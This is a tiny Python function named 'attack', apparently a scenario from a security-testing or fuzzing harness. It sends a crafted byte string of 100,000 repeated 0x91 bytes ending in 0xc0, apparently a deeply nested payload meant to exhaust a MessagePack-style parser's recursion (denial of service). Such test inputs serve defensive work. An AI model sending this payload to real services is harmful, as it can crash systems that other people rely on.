def attack(scene, oracle):
    send(b"\x91" * 100_000 + b"\xc0")
    leave()
